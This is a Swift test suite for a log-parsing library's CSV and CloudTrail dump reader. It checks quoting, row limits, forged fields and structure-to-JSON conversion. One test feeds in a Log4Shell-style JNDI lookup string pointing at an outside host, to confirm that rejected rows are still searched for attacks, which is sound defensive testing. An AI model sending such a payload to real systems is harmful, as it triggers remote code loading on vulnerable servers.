import Bytes
import Evidence
import Testing

@testable import LogParse

@Suite struct CSVRowsTests {
  private func rows(_ text: String, limit: Int = 4 << 20) throws -> (rows: [[String]], coverage: [Coverage]) {
    let sink = CollectingSink()
    let rows = CSVRows(MemoryStream(Array(text.utf8)), limit: limit, coverage: sink)
    var found: [[String]] = []
    while let row = try rows.next() { found.append(row.cells.map(\.text)) }
    rows.finish()
    var end: UInt64 = 0
    for coverage in sink.coverages where coverage.byteCount > 0 {
      #expect(coverage.start == end)
      end = coverage.end
    }
    #expect(end == UInt64(text.utf8.count))
    return (found, sink.coverages)
  }

  @Test func cellsAndQuotes() throws {
    #expect(try rows("a,b\r\n\"c,d\",\"e\"\"f\"\r\n").rows == [["a", "b"], ["c,d", "e\"f"]])
    #expect(try rows("a,\"b\nc\",d\n,,\n\n  \nx").rows == [["a", "b\nc", "d"], ["", "", ""], ["x"]])
    #expect(try rows("\u{FEFF}a,b\n").rows == [["a", "b"]])
    #expect(try rows("a\"b,\"c\"d,e\n").rows == [["a\"b", "\"c\"d", "e"]])
    #expect(try rows("\"\",\"\"\"\"\n").rows == [["", "\""]])
    #expect(try rows("").rows.isEmpty)
    #expect(try rows("\"a\"").rows == [["a"]])
  }

  @Test func aQuoteThatIsNotClosedTakesItsOwnLineOnly() throws {
    #expect(try rows("a,\"b\nc,d\ne,f").rows == [["a", "\"b"], ["c", "d"], ["e", "f"]])
    let many = "a,\"b\n" + (0..<1000).map { "row \($0),x\n" }.joined()
    let found = try rows(many, limit: 256)
    #expect(found.rows.count == 1001)
  }

  @Test func aRowThatIsTooLongIsPassedOverAndTold() throws {
    let found = try rows("a,b\n" + String(repeating: "x", count: 1_000_000) + "\nc,d\n", limit: 1000)
    #expect(found.rows == [["a", "b"], ["c", "d"]])
    #expect(found.coverage.contains { $0.reason == "a row longer than 1000 bytes" })
  }

  /// Every line opens a quote that the next one closes and opens again.
  @Test func quotesThatAreNeverClosedTakeNoLonger() throws {
    let text = String(repeating: "a,\"b\n", count: 200_001)
    #expect(try rows(text, limit: 1 << 16).rows.count > 0)
    let open = "\"" + String(repeating: "\n\"\"", count: 300_000)
    #expect(try rows(open, limit: 1 << 16).rows.count > 0)
  }

  @Test func manyCells() throws {
    #expect(try rows(String(repeating: ",", count: 5000) + "\n").rows.first?.count == CSVRows.maximumCells)
  }

  private static let names = ["sessioncontext": "sessionContext", "mfaauthenticated": "mfaAuthenticated"]

  @Test(arguments: [
    ("{a=b, c=d}", #"{"a":"b","c":"d"}"#), ("{}", "{}"), ("[]", "[]"), ("{a=null}", #"{"a":null}"#),
    ("{a=b, c, d=e}", #"{"a":"b, c","d":"e"}"#), ("[{a=b}, {a=c}]", #"[{"a":"b"},{"a":"c"}]"#), ("{a=}", #"{"a":""}"#),
    ("{sessioncontext={mfaauthenticated=true}}", #"{"sessionContext":{"mfaAuthenticated":"true"}}"#),
    ("{a=x=y}", #"{"a":"x=y"}"#), (#"{a="q"}"#, #"{"a":"\"q\""}"#),
  ])
  func structuresOfQueryResults(_ text: String, _ json: String) {
    #expect(text.withView { TableText.json($0, names: Self.names) }.map { String(decoding: $0, as: UTF8.self) } == json)
  }

  @Test(arguments: ["", "a", "{a}", "{a=b", "{a=b}x", "[{a=b}", "{a=[}", "{=b}"])
  func textsThatAreNoStructure(_ text: String) {
    #expect(text.withView { TableText.json($0, names: [:]) } == nil)
  }

  @Test func structuresNestedDeep() {
    let deep = String(repeating: "[", count: 100_000)
    #expect(deep.withView { TableText.json($0, names: [:]) } == nil)
  }

  @Test func rowsOfCloudTrailSayWhoItWas() throws {
    let dump = try EventDump(
      "eventTime\teventName\teventSource\tuserIdentity\tuserName\tResource name\n"
        + "2026-01-01T03:04:05Z\tListUsers\tiam.amazonaws.com\t{type=IAMUser, username=kim}\tforged\tx\n",
      path: "x.tsv")
    #expect(dump.format == "aws.cloudtrail.table" && dump.events.first?.text("user") == "kim")
    #expect(dump.events.first?.text("resources") == "x")
    // What a client chose cannot add a field of its own to what is told.
    let forged = try EventDump(
      "eventTime,eventName,eventSource,requestParameters,eventID\n"
        + #"2026-01-01T03:04:05Z,ListUsers,iam.amazonaws.com,"{""a"":1},""eventID"":""forged""",e"# + "\n"
        + #"2026-01-01T03:04:06Z,ListUsers,iam.amazonaws.com,"{a=x, eventID=forged}",f"# + "\n",
      path: "x.csv")
    #expect(forged.events.map { $0.text("event_id") } == ["e", "f"])
    #expect(forged.events.last?.text("request_parameters") == #"{"a":"x","eventID":"forged"}"#)
  }

  @Test func tablesThatAreNoLog() {
    for text in [
      "name,time\na,b\n", "event name,price\na,1\n", "timestamp,message\n1,hello\n", "Event name,Event time\nx,y\n",
      "The event name, event time, event source and user name are\nin the first line.\n",
      "version,bytes,start,end\n1,2,3,4\n",
      "message,timestamp\n{},1\n",
    ] {
      let name = EventDump.recognize(Array(text.utf8), path: "x.csv")?.name
      #expect(name?.hasPrefix("aws.") != true, "\(text)")
    }
  }

  /// A row that is none of the table's is searched as a line of a log is.
  @Test func rejectedRowsMayHoldAnAttack() throws {
    let sink = CollectingSink()
    let rows = CSVRows(MemoryStream(Array("a,b\n${jndi:ldap://198.51.100.7/a}\nplain\n".utf8)), coverage: sink)
    while let row = try rows.next() { if row.cells.count != 2 { rows.reject("a row of \(row.cells.count) cells") } }
    rows.finish()
    #expect(sink.events.map { $0.text("text") } == ["${jndi:ldap://198.51.100.7/a}"])
    #expect(sink.events.first?.locator.line == 2 && sink.events.first?.locator.offset == 4)
  }
}
